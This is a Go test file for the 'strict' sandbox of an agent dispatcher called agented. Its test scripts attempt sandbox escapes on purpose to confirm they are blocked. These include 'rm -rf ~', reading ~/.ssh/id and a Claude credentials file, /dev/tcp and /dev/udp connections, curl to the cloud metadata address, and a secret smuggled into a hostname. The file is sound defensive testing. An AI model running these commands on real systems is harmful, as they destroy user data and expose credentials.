package dispatch_test

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/agented/agented"
	"github.com/agented/agented/internal/dispatch"
	"github.com/agented/agented/internal/sandbox"
)

// strictWorks skips a test where no sandbox without a network can be created.
func strictWorks(t *testing.T) {
	t.Helper()
	f, err := sandbox.Resolve(sandbox.Request{Level: agented.SandboxStrict, Root: os.Geteuid() == 0, UID: os.Getuid(), Secret: []string{t.TempDir()}})
	if err == nil {
		err = sandbox.Probe(t.Context(), f)
	}
	if err != nil {
		t.Skip("NOT TESTED AT SANDBOX LEVEL STRICT: ", err)
	}
}

// strictHouse returns a dispatcher whose user has a home folder, and that folder.
func strictHouse(t *testing.T, change func(*dispatch.Options)) (*house, *dispatch.Dispatcher, string) {
	t.Helper()
	h := newHouse(t)
	home := t.TempDir()
	for name, text := range map[string]string{".ssh/id": "key", ".claude/.credentials.json": "login", "file": "canary"} {
		path := filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return h, h.dispatcher(func(o *dispatch.Options) {
		lookup := o.Lookup
		o.Lookup = func(name string) (string, bool) {
			if name == "HOME" {
				return home, true
			}
			return lookup(name)
		}
		if change != nil {
			change(o)
		}
	}), home
}

// strictly is a shell command at level strict.
func strictly(script string) *agented.Spec {
	s := command("bash", "-c", script)
	s.Sandbox = agented.SandboxStrict
	return s
}

// TestStrict_files removes, writes and reads what the user has.
func TestStrict_files(t *testing.T) {
	t.Parallel()
	strictWorks(t)
	h, d, home := strictHouse(t, nil)
	defer h.run(d)()
	beside, further := t.TempDir(), t.TempDir()
	outside := filepath.Join("/var/tmp", "agented-strict-"+strconv.Itoa(os.Getpid()))
	spec := strictly(`
		rm -rf ~ ~/.[a-z]* 2>/dev/null
		cat ` + home + `/.ssh/id ` + home + `/file 2>/dev/null && echo LEAK home
		ls -A ` + home + ` | grep . && echo LEAK names in home
		for f in ` + beside + `/new ` + outside + ` /etc/agented-strict /usr/agented-strict /run/agented-strict; do
			rm -f $f.x; { echo x >$f; } 2>/dev/null
		done
		touch ` + beside + `/existing 2>/dev/null && echo LEAK ` + beside + `
		echo x >~/own && echo x >/tmp/own && echo x >/var/tmp/own && echo x >$TMPDIR/own2 && echo x >file && echo x >` + further + `/file && mv file other && echo usable
		ls /tmp | grep own; ls -A /run | grep . && echo LEAK run
		[ -e /proc/1/root` + h.layout.Root + `/agented.db ] && echo LEAK database
		echo end`)
	spec.Paths = []string{further}
	if err := os.WriteFile(filepath.Join(beside, "existing"), nil, 0o666); err != nil {
		t.Fatal(err)
	}
	e := h.await(h.fire(d, spec))
	text := h.text(e.ID)
	if e.State != agented.StateSuccess || e.Attempts[0].Sandbox.Level != agented.SandboxStrict || text != "usable\nown\nown2\nend\n" {
		t.Errorf("%s at %q: %s: it printed %q", e.State, e.Attempts[0].Sandbox.Level, e.Reason, text)
	}
	for _, name := range []string{".ssh/id", ".claude/.credentials.json", "file"} {
		if _, err := os.Stat(filepath.Join(home, name)); err != nil {
			t.Errorf("rm -rf ~ removed a file: %v", err)
		}
	}
	for _, path := range []string{filepath.Join(home, "own"), filepath.Join(beside, "new"), outside, "/etc/agented-strict", "/tmp/own", "/var/tmp/own"} {
		if _, err := os.Stat(path); err == nil {
			t.Errorf("%s was written", path)
			os.Remove(path)
		}
	}
	if _, err := os.Stat(filepath.Join(further, "file")); err != nil {
		t.Errorf("a folder of paths: %v", err)
	}
}

// TestStrict_network tries to leave with the means that agents have.
func TestStrict_network(t *testing.T) {
	t.Parallel()
	strictWorks(t)
	h, d, _ := strictHouse(t, nil)
	defer h.run(d)()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	reached := make(chan struct{}, 100)
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			reached <- struct{}{}
			conn.Close()
		}
	}()
	abstract, err := net.Listen("unix", "@agented-strict-"+strconv.Itoa(os.Getpid()))
	if err != nil {
		t.Fatal(err)
	}
	defer abstract.Close()
	host, port, _ := net.SplitHostPort(l.Addr().String())
	script := `
		exec 3<>/dev/tcp/` + host + `/` + port + ` && echo LEAK tcp
		exec 3<>/dev/tcp/192.0.2.1/80 && echo LEAK route
		echo x >/dev/udp/192.0.2.1/53 && echo LEAK udp
		getent hosts example.org && echo LEAK dns
		command -v curl >/dev/null && curl -sS --max-time 20 http://` + host + `:` + port + `/ && echo LEAK curl
		grep -v -E 'Inter|face|lo:' /proc/net/dev && echo LEAK interface
		grep agented-strict /proc/net/unix && echo LEAK abstract
		exec 3<>/dev/tcp/127.0.0.1/1 || echo end`
	e := h.await(h.fire(d, strictly("{ "+script+"; } 2>/dev/null")))
	if text := h.text(e.ID); text != "end\n" || len(reached) > 0 {
		t.Errorf("%s: %s: it printed %q, %d connections", e.State, e.Reason, text, len(reached))
	}
	// Without a sandbox the same commands reach the listener.
	open := strictly("{ " + script + "; } 2>/dev/null")
	open.Sandbox = agented.SandboxOff
	e = h.await(h.fire(d, open))
	if text := h.text(e.ID); !strings.Contains(text, "LEAK tcp") || !strings.Contains(text, "LEAK abstract") {
		t.Errorf("without a sandbox it printed %q: the test proves nothing", text)
	}
}

// TestStrict_agent_needs_forward starts an agent, which is refused without a way to its model.
func TestStrict_agent_needs_forward(t *testing.T) {
	t.Parallel()
	strictWorks(t)
	h, d, _ := strictHouse(t, nil)
	defer h.run(d)()
	key := "a-key-0123456789"
	spec := &agented.Spec{
		Backend: agented.BackendAnthropic, Prompt: "x", Sandbox: agented.SandboxStrict, Env: map[string]*string{"ANTHROPIC_API_KEY": &key},
	}
	e := h.await(h.fire(d, spec))
	if e.State != agented.StateFailed || !strings.Contains(e.Reason, "set AGENTED_SANDBOX_FORWARD") {
		t.Errorf("%s: %q", e.State, e.Reason)
	}
}

// TestStrict_broker lets an agent call its model from a sandbox without a network.
func TestStrict_broker(t *testing.T) {
	t.Parallel()
	strictWorks(t)
	h := newHouse(t)
	url, keys := api(t, used("gpt-5", 1))
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// The stand-in for the CLI is this program, which is not among the folders of programs.
	d := h.dispatcher(h.brokered("env | grep -a -e KEY -e URL | rev\n(exec 3<>/dev/tcp/"+strings.Replace(strings.TrimPrefix(url, "http://"), ":", "/", 1)+") 2>/dev/null && echo LEAK\n$CALL\n"+codexEnd, url))
	defer h.run(d)()
	spec := codexSpec()
	spec.Sandbox = agented.SandboxStrict
	spec.Paths = []string{filepath.Dir(self)}
	e := h.await(h.fire(d, spec))
	text := h.text(e.ID)
	if e.State != agented.StateSuccess || e.Attempts[0].Sandbox.Level != agented.SandboxStrict || strings.Contains(text, "LEAK") ||
		strings.Contains(text, backwards(realKey)) || !strings.Contains(text, backwards("sk-placeholder-of-agented-")) {
		t.Fatalf("%s: %s\n%s", e.State, e.Reason, text)
	}
	if key := <-keys; key != realKey {
		t.Errorf("the API received %q", key)
	}
}

// TestStrict_allow_list leaves a sandbox through the proxy, which reaches one address only.
func TestStrict_allow_list(t *testing.T) {
	t.Parallel()
	strictWorks(t)
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("NOT TESTED: curl IS NOT INSTALLED, WHICH IS THE CLIENT OF THE PROXY")
	}
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, "reached", r.URL.Path) }))
	defer web.Close()
	secure := httptest.NewTLSServer(web.Config.Handler)
	defer secure.Close()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "LEAK") }))
	defer other.Close()
	secret := "a-secret-0123456789"
	h, d, _ := strictHouse(t, func(o *dispatch.Options) { o.Secrets = func() []string { return []string{secret} } })
	defer h.run(d)()
	script := `curl() { ` + curl + ` -sS --max-time 60 "$@" || echo failed; }
		curl ` + web.URL + `/plain
		curl -k ` + secure.URL + `/secure
		curl ` + other.URL + `
		curl ` + other.URL + `
		curl https://example.org
		curl https://` + secret + `.example.org
		curl --noproxy '*' ` + web.URL + `
		curl -x '' http://192.0.2.1
		curl http://169.254.169.254/latest/meta-data`
	spec := strictly("{ " + script + "; } 2>/dev/null")
	spec.Network = &agented.Network{Allow: []string{strings.TrimPrefix(web.URL, "http://"), strings.TrimPrefix(secure.URL, "https://")}}
	e := h.await(h.fire(d, spec))
	var refused, reached []string
	text := h.text(e.ID)
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "reached") {
			reached = append(reached, strings.TrimSpace(line))
		}
	}
	if e.State != agented.StateSuccess || strings.Join(reached, " ") != "reached /plain reached /secure" || strings.Contains(text, "LEAK") || strings.Count(text, "failed") != 4 {
		t.Errorf("%s: %s: it printed %q", e.State, e.Reason, text)
	}
	b := e.Attempts[0].Broker
	if b == nil || b.Credentials || b.More != 0 {
		t.Fatalf("the broker: %+v", b)
	}
	for _, r := range b.Refused {
		refused = append(refused, fmt.Sprint(r.Address, " ", r.Count))
	}
	want := []string{strings.TrimPrefix(other.URL, "http://") + " 2", "example.org:443 1", "***.example.org:443 1", "169.254.169.254:80 1"}
	if diff := cmp.Diff(want, refused); diff != "" {
		t.Errorf("refused: %s", diff)
	}
	log := h.system(e.ID)
	for _, line := range []string{
		"The network of the execution refused example.org:443: it is not in network.allow.",
		"The network of the execution refused 5 connections to 4 addresses.",
	} {
		if !strings.Contains(log, line) {
			t.Errorf("the log does not contain %q:\n%s", line, log)
		}
	}
	if strings.Contains(log, secret) {
		t.Error("the log contains a secret")
	}
}

// TestStrict_allow_list_at_other_levels refuses to run what would have more of a network than its
// trigger says.
func TestStrict_allow_list_at_other_levels(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	d := h.dispatcher(nil)
	defer h.run(d)()
	spec := command("true")
	spec.Network = &agented.Network{Allow: []string{"github"}}
	if e := h.await(h.fire(d, spec)); e.State != agented.StateFailed || !strings.Contains(e.Reason, "network applies at sandbox level strict only") {
		t.Errorf("%s: %q", e.State, e.Reason)
	}
}

// TestStrict_forward connects a port with a socket, through which requests of several kilobytes pass
// in both directions, also from several clients at once.
func TestStrict_forward(t *testing.T) {
	t.Parallel()
	strictWorks(t)
	dir, err := os.MkdirTemp("", "s-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	socket := filepath.Join(dir, "proxy.sock")
	l, err := net.Listen("unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() { // answers when the client has sent everything
				defer conn.Close()
				all, _ := io.ReadAll(conn)
				_, _ = conn.Write(all)
			}()
		}
	}()
	node, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("NOT TESTED: python3 IS NOT INSTALLED, WHICH IS THE CLIENT OF THE FORWARDED PORT")
	}
	h, d, _ := strictHouse(t, func(o *dispatch.Options) {
		o.Forward = func() (int, string) { return 3128, socket }
	})
	defer h.run(d)()
	spec := command(node, "-c", `
import socket, threading
def one(n):
    s = socket.create_connection(("127.0.0.1", 3128))
    data = bytes([65 + n]) * 300000
    threading.Thread(target=lambda: (s.sendall(data), s.shutdown(socket.SHUT_WR))).start()
    got = b""
    while True:
        more = s.recv(65536)
        if not more: break
        got += more
    assert got == data, len(got)
all = [threading.Thread(target=one, args=(n,)) for n in range(8)]
[t.start() for t in all]; [t.join() for t in all]
print("end")`)
	spec.Sandbox = agented.SandboxStrict
	e := h.await(h.fire(d, spec))
	if text := h.text(e.ID); e.State != agented.StateSuccess || text != "end\n" {
		t.Errorf("%s: %s: %q", e.State, e.Reason, text)
	}
}
